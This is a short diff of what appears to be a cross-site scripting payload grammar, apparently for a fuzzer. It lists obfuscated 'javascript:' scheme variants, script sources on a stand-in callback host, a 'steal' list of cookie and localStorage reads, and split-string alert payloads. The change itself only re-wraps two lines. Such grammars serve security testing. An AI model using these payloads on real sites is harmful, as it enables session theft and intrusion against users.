@@ -172,7 +172,8 @@ quoted
     "eval(«payload_string»)"
 scheme:
     javascript: javascript: javascript: JavaScript: jAvAsCrIpT: javascript:// java«tab»script: java&#x0A;script:
-    javascript&colon; javascript&#58; vbscript: data:text/html, data:text/javascript, &#106;avascript: feed:javascript:
+    javascript&colon; javascript&#58; vbscript: data:text/html, data:text/javascript, &#106;avascript:
+    feed:javascript:
 src:
     //«callback»/«lower:1» http://«callback»/«label».js https://«callback»/«lower:4» //«callback»/x.js
     data:text/javascript,«tight» "//«callback»/«label»" http://«ip»/«lower:3».js \\«callback»\«lower:2»
@@ -270,7 +271,8 @@ argument
     top.location
 steal:
     document.cookie document.cookie escape(document.cookie) btoa(document.cookie) localStorage.getItem('«label»')
-    document.documentElement.outerHTML encodeURIComponent(document.cookie) location.search JSON.stringify(localStorage)
+    document.documentElement.outerHTML encodeURIComponent(document.cookie) location.search
+    JSON.stringify(localStorage)
 payload_string
     '«sink»(«int:1-99»)'
     "al"+"ert(«int:1-99»)"
